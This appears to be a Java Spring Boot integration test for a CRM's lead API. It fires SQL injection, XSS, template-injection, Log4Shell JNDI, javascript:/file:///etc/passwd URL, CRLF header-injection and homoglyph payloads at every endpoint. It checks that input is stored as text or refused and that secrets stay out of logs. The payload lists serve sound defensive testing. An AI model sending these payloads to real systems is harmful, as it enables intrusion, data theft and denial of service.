package io.sangam.records;

import static org.assertj.core.api.Assertions.assertThat;

import io.sangam.OperationBook;
import io.sangam.TestApi;
import io.sangam.TestApi.Reply;
import io.sangam.TestTenants;
import io.sangam.TestTenants.TestTenant;
import io.sangam.kernel.OneLine;
import io.sangam.tenancy.Preset;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.jooq.DSLContext;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.TestConstructor;
import org.springframework.transaction.support.TransactionOperations;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.json.JsonMapper;

/// Attack group IN and cases RL-04 and RL-06: what strangers write is kept as they wrote it or refused in documented
/// words, is never run, and what is secret reaches no log.
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@TestConstructor(autowireMode = TestConstructor.AutowireMode.ALL)
@ExtendWith(OutputCaptureExtension.class)
class InjectionIT {

    private static final List<String> SQL = List.of(
            "' or '1'='1",
            "'; drop table leads.lead; --",
            "\" or \"\"=\"",
            "1) or (1=1",
            "title); select pg_sleep(30); --",
            "' union select rolname from pg_roles --",
            "title desc, (select pg_sleep(30))",
            "$$ || pg_sleep(30) || $$",
            "\\'; select 1; --",
            "%27%20or%201%3D1",
            "{\"$gt\":\"\"}",
            "a\\",
            "' || (select password_hash from identity.user_account limit 1) || '",
            "E'\\\\x27'",
            "@@version",
            "(a+)+$",
            "%",
            "_",
            "***:*",
            "a & b | !c <-> d");

    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> *{7*7} __${7*7}__::.x",
            "${jndi:ldap://192.0.2.1/a}",
            "<a href=\"javascript:alert(1)\">x</a>");

    private static final List<String> ADDRESSES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            " \u0001javascript:alert(1)",
            "file:///etc/passwd",
            "//evil.example",
            "http:///nohost",
            "https://exa mple.com/");

    private static final List<String> SPELLINGS = List.of(
            "zero\u200bwidth",
            "\u202egnp.exe",
            "раураl",
            "Cafe\u0301",
            "👩‍👩‍👧‍👦 🚀",
            "İstanbul ß ﬁ",
            "नमस्ते مرحبا");

    private static final HttpClient HTTP = HttpClient.newHttpClient();

    private final TestTenants tenants;
    private final DSLContext db;
    private final TransactionOperations transactions;
    private final RequestMappingHandlerMapping handlers;
    private final int port;
    private final TestApi api;
    private TestTenant acme;
    private TestApi admin;

    InjectionIT(
            TestTenants tenants,
            DSLContext db,
            TransactionOperations transactions,
            @Qualifier("requestMappingHandlerMapping") RequestMappingHandlerMapping handlers,
            @LocalServerPort int port) {
        this.handlers = handlers;
        this.tenants = tenants;
        this.db = db;
        this.transactions = transactions;
        this.port = port;
        this.api = new TestApi(port);
        this.acme = tenants.create(Preset.SIMPLE);
        this.admin = api;
    }

    @BeforeEach
    void aCompany() {
        acme = tenants.create(Preset.SIMPLE);
        admin = api.as(acme.token("ADMIN"));
    }

    /// IN-01, IN-03: into every place of a request that becomes part of a statement.
    @Test
    void aStatementIsNoPlaceForStrangers() {
        lead(Map.of("title", "Innocent"));
        var checks = new SoftAssertions();

        for (var attack : SQL) {
            var value = JsonMapper.shared().writeValueAsString(attack);
            for (var path : List.of(
                    "/leads?filter=" + encoded("{\"field\":\"title\",\"op\":\"eq\",\"value\":" + value + "}"),
                    "/leads?filter=" + encoded("{\"field\":\"title\",\"op\":\"contains\",\"value\":" + value + "}"),
                    "/leads?filter=" + encoded("{\"field\":\"phone\",\"op\":\"endsWith\",\"value\":" + value + "}"),
                    "/leads?filter=" + encoded("{\"field\":\"tags\",\"op\":\"hasAny\",\"value\":[" + value + "]}"),
                    "/leads?filter=" + encoded("{\"field\":" + value + ",\"op\":\"eq\",\"value\":1}"),
                    "/leads?filter=" + encoded("{\"field\":\"title\",\"op\":" + value + ",\"value\":1}"),
                    "/leads?filter=" + encoded(attack),
                    "/leads?sort=" + encoded(attack),
                    "/leads?fields=" + encoded(attack),
                    "/leads?cursor=" + encoded(attack),
                    "/leads?limit=" + encoded(attack),
                    "/leads/aggregate?groupBy=" + encoded(attack),
                    "/leads/aggregate?sums=" + encoded(attack),
                    "/leads/" + encoded(attack),
                    "/leads/export?format=" + encoded(attack),
                    "/search?q=" + encoded(attack),
                    "/search?q=word&objects=" + encoded(attack),
                    "/users?query=" + encoded(attack),
                    "/audit/changes?verb=" + encoded(attack),
                    "/audit/changes?cursor=" + encoded(attack),
                    "/views?object=" + encoded(attack),
                    "/webhooks/deliveries?status=" + encoded(attack))) {
                var reply = admin.get(path);
                checks.assertThat(reply.status())
                        .as("%s: %s", path, reply.body())
                        .isIn(200, 400, 404, 422);
            }
        }

        checks.assertAll();
        assertThat(leads()).isEqualTo(1);
    }

    /// IN-03: a wildcard is a character like any other.
    @Test
    void wildcardsStandForThemselves() {
        lead(Map.of("title", "100% real"));
        lead(Map.of("title", "under_score"));
        lead(Map.of("title", "back\\slash"));
        lead(Map.of("title", "plain"));

        for (var each : List.of("%", "_", "\\")) {
            var filter = "{\"field\":\"title\",\"op\":\"contains\",\"value\":%s}"
                    .formatted(JsonMapper.shared().writeValueAsString(each));
            assertThat(admin.get("/leads?fields=title&filter=" + encoded(filter))
                            .data())
                    .as(each)
                    .hasSize(1);
        }
    }

    /// IN-03, RL-04: more than a request may ask for.
    @Test
    void refusesWhatIsTooMuch() {
        var many = IntStream.range(0, 100_000).mapToObj(i -> "p" + i).toList();
        var few = IntStream.range(0, 501).mapToObj(i -> "p" + i).toList();
        var in = Map.of(
                "object", "lead", "action", "restore", "filter", Map.of("field", "title", "op", "in", "value", many));
        var deep = "{\"and\":[".repeat(400) + "]}".repeat(400);

        assertThat(admin.post("/bulk-operations/preview", in).status()).isIn(400, 413);
        assertRefused(admin.get("/leads?filter="
                + encoded(JsonMapper.shared().writeValueAsString(Map.of("field", "title", "op", "in", "value", few)))));
        assertRefused(admin.get("/leads?filter=" + encoded(deep)));
        assertRefused(admin.get("/leads?limit=1000000000"));
        assertRefused(admin.get("/leads?sort=" + "title,".repeat(50)));
        assertThat(admin.get("/search?q=" + "x".repeat(60_000)).status()).isBetween(400, 499);
        assertThat(admin.get("/leads?filter=" + "x".repeat(70_000)).status()).isBetween(400, 499);
        assertThat(admin.get(
                                "/leads?filter="
                                        + encoded(
                                                "{\"field\":\"createdAt\",\"op\":\"between\",\"value\":[\"0001-01-01\",\"9999-12-31\"]}"))
                        .status())
                .isEqualTo(200);
        assertThat(admin.get("/leads?filter="
                                + encoded("{\"field\":\"createdAt\",\"op\":\"on\",\"value\":\"+999999999-12-31\"}"))
                        .status())
                .isEqualTo(400);
    }

    /// Filters bent in every way a seeded generator thinks of, through the whole of parser, compiler and database.
    @Test
    void aBentFilterIsAnsweredOrRefused() {
        lead(Map.of("title", "Innocent"));
        var random = new Random(20_261_126);
        var parts = List.of(
                "{\"field\":\"title\",\"op\":\"eq\",\"value\":\"a\"}",
                "{\"field\":\"status\",\"op\":\"in\",\"value\":[\"new\"]}",
                "{\"field\":\"createdAt\",\"op\":\"within\",\"value\":\"today\"}",
                "{\"field\":\"createdAt\",\"op\":\"between\",\"value\":[\"2026-01-01\",\"2026-12-31T00:00:00Z\"]}",
                "{\"field\":\"expectedValue\",\"op\":\"between\",\"value\":[1,{\"amount\":\"2\",\"currency\":\"INR\"}]}",
                "{\"field\":\"probability\",\"op\":\"gte\",\"value\":50}",
                "{\"field\":\"owner\",\"op\":\"eq\",\"value\":\"me\"}",
                "{\"field\":\"tags\",\"op\":\"hasAll\",\"value\":[\"x\",\"y\"]}",
                "{\"field\":\"phone\",\"op\":\"eq\",\"value\":\"098765 43210\"}",
                "{\"field\":\"email\",\"op\":\"startsWith\",\"value\":\"A\"}",
                "{\"field\":\"qualified\",\"op\":\"eq\",\"value\":true}",
                "{\"field\":\"mine\",\"op\":\"eq\",\"value\":false}",
                "{\"or\":[]}",
                "{\"and\":[{\"field\":\"city\",\"op\":\"empty\"}]}");
        var bits = List.of(
                "null",
                "[]",
                "{}",
                "\"\"",
                "-1",
                "1e99999999",
                "\"1e99999999\"",
                "9223372036854775808",
                "true",
                "\"\\u0000\"",
                "\"\\ud800\"",
                "\"%\"",
                "[[[[]]]]",
                "\"me\"",
                "\"0000-00-00\"",
                "\"2026-02-30\"",
                "\"+999999999-01-01\"",
                "\"-999999999-01-01T00:00:00Z\"",
                "NaN",
                "\"\uD83D\uDE80\"");
        var checks = new SoftAssertions();

        for (var i = 0; i < 700; i++) {
            var filter = new StringBuilder(parts.get(random.nextInt(parts.size())));
            for (var bend = random.nextInt(3); bend >= 0; bend--) {
                var at = random.nextInt(filter.length());
                switch (random.nextInt(4)) {
                    case 0 -> filter.deleteCharAt(at);
                    case 1 -> filter.insert(at, bits.get(random.nextInt(bits.size())));
                    case 2 -> {
                        var value = filter.indexOf("\"value\":");
                        if (value > 0) {
                            filter.replace(value + 8, filter.length(), bits.get(random.nextInt(bits.size())) + "}");
                        }
                    }
                    default -> {
                        var other = parts.get(random.nextInt(parts.size()));
                        filter.insert(0, "{\"and\":[" + other + ",").append("]}");
                    }
                }
            }
            var reply = admin.get((i % 3 == 0 ? "/leads/aggregate?filter=" : "/leads?filter=") + encoded(filter + ""));
            checks.assertThat(reply.status()).as("%s: %s", filter, reply.body()).isIn(200, 400);
            if (reply.status() == 400) {
                checks.assertThat(reply.code()).as(filter.toString()).isEqualTo("FILTER_INVALID");
            }
        }

        checks.assertAll();
    }

    /// IN-05 and IN-04: kept as written, sent as data.
    @Test
    void scriptsAreTextAndStayText() {
        var fields = List.of("title", "company", "city", "description", "painPoint", "subSource", "utmSource");
        var checks = new SoftAssertions();

        for (var script : SCRIPTS) {
            var id = lead(Map.of("title", script));
            for (var field : fields) {
                var version = admin.get("/leads/" + id).data().path("version").asInt();
                assertThat(admin.patch("/leads/" + id, Map.of("version", version, field, script))
                                .status())
                        .isEqualTo(200);
            }
            assertThat(admin.post("/leads/" + id + "/comments", Map.of("text", script))
                            .status())
                    .isEqualTo(201);
            var read = admin.get("/leads/" + id);
            for (var field : fields) {
                checks.assertThat(read.data().path(field).asString()).as(field).isEqualTo(script);
            }
            for (var reply : List.of(read, admin.get("/leads/" + id + "/timeline"), admin.get("/leads"))) {
                checks.assertThat(reply.headers().firstValue("Content-Type").orElse(""))
                        .startsWith("application/json");
                checks.assertThat(reply.headers()
                                .firstValue("X-Content-Type-Options")
                                .orElse(""))
                        .isEqualTo("nosniff");
                checks.assertThat(reply.headers()
                                .firstValue("Content-Security-Policy")
                                .orElse(""))
                        .contains("script-src 'self'");
            }
            // what is echoed in a refusal is data as well
            var refused = admin.get("/leads?sort=" + encoded(script));
            checks.assertThat(refused.headers().firstValue("Content-Type").orElse(""))
                    .startsWith("application/problem+json");
        }

        checks.assertAll();
    }

    /// IN-06.
    @Test
    void anAddressLeadsToTheWebOrNowhere() {
        var id = lead(Map.of("title", "Linked"));
        for (var field : List.of("website", "landingPage", "referrerUrl")) {
            for (var address : ADDRESSES) {
                var reply = admin.patch("/leads/" + id, Map.of("version", 0, field, address));
                if (admin.get("/meta/objects/lead")
                        .data()
                        .path("fields")
                        .valueStream()
                        .anyMatch(spec -> spec.path("key").asString().equals(field)
                                && spec.path("kind").asString().equals("url"))) {
                    assertThat(reply.status())
                            .as("%s %s %s", field, address, reply.body())
                            .isEqualTo(422);
                }
            }
        }
        for (var address : ADDRESSES) {
            assertThat(admin.post("/webhooks", Map.of("name", "x", "url", address, "events", List.of("lead.created")))
                            .status())
                    .as(address)
                    .isEqualTo(422);
        }
    }

    /// IN-07: nothing of a name becomes a line of its own.
    @Test
    void aLineEndsWhereItEnds() throws Exception {
        var split = "x\r\nSet-Cookie: a=b";
        assertThat(admin.post("/leads", Map.of("title", split, "source", "self", "phone", "+14155550111"))
                        .status())
                .isEqualTo(422);
        assertThat(admin.post("/users", Map.of("name", split, "email", "a@example.com", "roleIds", List.of()))
                        .status())
                .isIn(400, 422);
        assertThat(admin.post(
                                "/users",
                                Map.of(
                                        "name",
                                        "x",
                                        "email",
                                        "a@example.com\r\nBcc: b@example.com",
                                        "roleIds",
                                        List.of()))
                        .status())
                .isIn(400, 422);
        var upload = admin.upload(
                "/imports?object=lead&fileName=" + encoded(split + ".csv"),
                "Name,Phone\nA,1\n".getBytes(StandardCharsets.UTF_8));
        var file = upload.status() >= 400
                ? null
                : admin.download("/imports/" + upload.data().path("id").asString() + "/problems/file");
        assertThat(file == null || file.headers().firstValue("Set-Cookie").isEmpty())
                .isTrue();
        var traced = admin.with("X-Trace-Id", "a b c").get("/me");
        assertThat(traced.headers().firstValue("Set-Cookie")).isEmpty();
    }

    /// IN-07: whatever is called a name is one, in every body there is.
    @Test
    void aNameIsOneLine() {
        var split = "x\r\ny";
        var bodies = Map.of(
                "/views",
                Map.of("object", "lead", "name", split, "definition", Map.of(), "shared", false, "position", 1),
                "/webhooks",
                Map.of("name", split, "url", "https://example.com/hook", "events", List.of("lead.created")),
                "/teams",
                Map.of("name", split));
        for (var path : bodies.keySet()) {
            assertThat(admin.post(path, bodies.get(path)).body().path("errors").valueStream())
                    .as(path)
                    .anySatisfy(error -> {
                        assertThat(error.path("pointer").asString()).isEqualTo("/name");
                        assertThat(error.path("code").asString()).isEqualTo("ONE_LINE");
                    });
        }
        var checks = new SoftAssertions();
        handlers.getHandlerMethods().values().stream()
                .flatMap(handler -> Stream.of(handler.getMethodParameters()))
                .filter(parameter -> parameter.hasParameterAnnotation(RequestBody.class))
                .map(parameter -> parameter.getParameterType())
                .forEach(body -> requireLines(body, checks));
        checks.assertAll();
    }

    private static void requireLines(Class<?> body, SoftAssertions checks) {
        if (body.isRecord() && body.getName().startsWith("io.sangam.")) {
            for (var component : body.getRecordComponents()) {
                if (component.getType() == String.class && component.getName().matches("name|label|title|button")) {
                    checks.assertThat(Stream.of(body.getDeclaredFields())
                                    .filter(field -> field.getName().equals(component.getName())
                                            && field.isAnnotationPresent(OneLine.class)))
                            .as(component.getName() + " of " + body.getName())
                            .hasSize(1);
                }
                requireLines(component.getType(), checks);
            }
        }
        if (body.isSealed()) {
            Stream.of(body.getPermittedSubclasses()).forEach(each -> requireLines(each, checks));
        }
    }

    /// IN-09: bodies no parser likes.
    @Test
    void aBodyIsReadOrRefused() throws Exception {
        var checks = new SoftAssertions();
        var bodies = List.of(
                "[".repeat(100_000),
                "{\"title\":" + "[".repeat(2_000) + "]".repeat(2_000) + "}",
                "{\"title\":" + "9".repeat(5_000) + "}",
                "{\"version\":1e99999999}",
                "{\"version\":99999999999999999999}",
                "{\"title\":\"a\",\"title\":\"b\"}",
                "{\"name\":\"a\",\"name\":\"b\"}",
                "{\"title\":\"\\ud800\",\"name\":\"\\udfff\",\"text\":\"\\ud800\"}",
                "{\"title\":\"a\\u0000b\",\"name\":\"a\\u0000b\",\"text\":\"a\\u0000b\"}",
                "{\"title\":[1],\"name\":[1],\"text\":{}}",
                "{\"title\":{\"a\":1},\"name\":{\"a\":1},\"text\":1}",
                "[]",
                "null",
                "\"text\"",
                "7",
                "{\"title\":\"a\"} {\"title\":\"b\"}",
                "{'title':'a'}",
                "{\"title\":NaN}",
                "",
                "\u0000",
                "{\"__proto__\":{\"a\":1}}");
        var lead = lead(Map.of("title", "Target"));
        for (var path : List.of(
                "POST /leads",
                "POST /tasks",
                "POST /partners",
                "POST /teams",
                "POST /users",
                "POST /roles",
                "POST /views",
                "POST /webhooks",
                "POST /territories",
                "POST /assignment-rules",
                "POST /bulk-operations",
                "POST /leads/duplicates",
                "PATCH /leads/" + lead,
                "POST /leads/" + lead + "/comments",
                "PUT /leads/" + lead + "/contact-points",
                "POST /leads/" + lead + "/transition",
                "PUT /company",
                "PATCH /me")) {
            for (var body : bodies) {
                var answer = raw(path, body);
                checks.assertThat(answer.statusCode())
                        .as("%s %.80s: %s", path, body, answer.body())
                        .isIn(400, 409, 422);
                checks.assertThat(answer.headers().firstValue("Content-Type").orElse(""))
                        .as("%s %.80s", path, body)
                        .startsWith("application/problem+json");
            }
        }

        checks.assertAll();
    }

    /// IN-09: half a character is refused wherever a text goes, since no database keeps it.
    @Test
    void halfACharacterIsRefusedEverywhere() throws Exception {
        var lead = lead(Map.of("title", "Target"));
        var half = "\\ud83d";
        for (var call : List.of(
                "POST /leads {\"title\":\"%s\",\"source\":\"self\",\"phone\":\"+14155550133\"}",
                "PATCH /leads/" + lead + " {\"version\":0,\"tags\":[\"%s\"]}",
                "POST /leads/" + lead + "/comments {\"text\":\"%s\"}",
                "POST /teams {\"name\":\"%s\"}",
                "POST /partners {\"name\":\"%s\"}",
                "POST /territories {\"name\":\"a\",\"cities\":[\"%s\"]}",
                "PATCH /me {\"name\":\"%s\"}")) {
            var words = call.split(" ", 3);
            var answer = raw(words[0] + " " + words[1], words[2].formatted(half));
            assertThat(answer.statusCode()).as("%s %s", call, answer.body()).isIn(400, 422);
        }
    }

    /// IN-11: exactly as typed, in normal form C; the same person in another spelling is the same person.
    @Test
    void everySpellingIsKeptAndComparedByItsNormalForm() {
        for (var spelling : SPELLINGS) {
            var id = lead(Map.of("title", spelling, "company", spelling, "description", spelling));
            var read = admin.get("/leads/" + id).data();
            for (var field : List.of("title", "company", "description")) {
                assertThat(read.path(field).asString()).isEqualTo(Normalizer.normalize(spelling, Normalizer.Form.NFC));
            }
        }
        var first = admin.post("/leads", Map.of("source", "self", "email", "jose\u0301@example.org"));
        var second = admin.post("/leads", Map.of("source", "self", "email", "jos\u00e9@example.org"));
        if (first.status() == 201) {
            assertThat(second.status()).as("one person, resubmitted").isEqualTo(200);
        } else {
            assertThat(second.status()).isEqualTo(first.status());
        }
        var latin = admin.post("/leads", Map.of("source", "self", "email", "paypal@example.org"));
        var cyrillic = admin.post("/leads", Map.of("source", "self", "email", "р\u0430ypal@example.org"));
        assertThat(latin.status()).isEqualTo(201);
        assertThat(cyrillic.status()).as("looks alike, is another").isIn(201, 422);
    }

    /// IN-08: planted in requests that succeed, fail and break.
    @Test
    void noSecretReachesTheLog(CapturedOutput log) {
        var password = "plover-quiet-planted-77";
        var phone = "+14155559876";
        var email = "planted.person@example.org";
        var token = acme.token("ADMIN");
        var caller = api.as(token);
        api.post("/auth/login", Map.of("tenant", acme.slug(), "email", "admin@example.com", "password", password));
        api.post(
                "/auth/login",
                Map.of("tenant", acme.slug(), "email", "admin@example.com", "password", TestTenants.PASSWORD));
        caller.post("/auth/password", Map.of("currentPassword", password, "newPassword", password + "x"));
        caller.post("/leads", Map.of("source", "self", "phone", phone, "email", email));
        caller.post("/leads", Map.of("source", "self", "phone", phone, "email", email, "onDuplicate", "reject"));
        caller.post("/leads", Map.of("source", "nothing", "phone", phone, "email", email));
        caller.get("/leads?filter=" + encoded("{\"field\":\"email\",\"op\":\"eq\",\"value\":\"" + email + "\"}"));
        caller.get("/search?q=" + encoded(phone));
        caller.get("/nowhere?email=" + encoded(email));
        caller.post("/users", Map.of("name", "P", "email", email, "roleIds", List.of()));
        caller.post("/users", Map.of("name", "P", "email", email, "roleIds", List.of()));
        var secret = caller.post(
                        "/webhooks",
                        Map.of("name", "S", "url", "http://localhost:9/", "events", List.of("lead.created")))
                .data()
                .path("secret")
                .asString();
        assertThat(secret).startsWith("whsec_");
        api.with("Authorization", "Bearer " + token + "x").get("/me");
        caller.get("/nowhere%0d%0a" + encoded("\u001b[31mforged"));
        caller.with("User-Agent", "${jndi:ldap://192.0.2.1/a}").get("/leads/" + encoded("${jndi:ldap://192.0.2.1/a}"));
        api.post("/auth/refresh", Map.of("refreshToken", "r." + password));

        assertThat(log.getAll())
                .doesNotContain(password, TestTenants.PASSWORD, phone, phone.substring(1), email, token, secret)
                .doesNotContain("\u001b[31m", "${jndi:");
    }

    private void assertRefused(Reply reply) {
        assertThat(reply.status()).as(reply.body().toString()).isEqualTo(400);
        assertThat(reply.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
    }

    private HttpResponse<String> raw(String methodAndPath, String body) throws IOException, InterruptedException {
        var words = methodAndPath.split(" ");
        return HTTP.send(
                HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1" + words[1]))
                        .method(words[0], HttpRequest.BodyPublishers.ofString(body))
                        .header("Content-Type", "application/json")
                        .header("Authorization", acme.bearer("ADMIN"))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private String lead(Map<String, Object> values) {
        var body = new java.util.HashMap<>(values);
        body.put("source", "self");
        body.put("phone", OperationBook.phone());
        body.put("onDuplicate", "create");
        var reply = admin.post("/leads", body);
        assertThat(reply.status()).as(reply.body().toString()).isEqualTo(201);
        return reply.data().at("/lead/id").asString();
    }

    private int leads() {
        return acme.in(() -> Objects.requireNonNull(transactions.execute(
                _ -> db.fetchSingle("select count(*) from leads.lead").get(0, Integer.class))));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
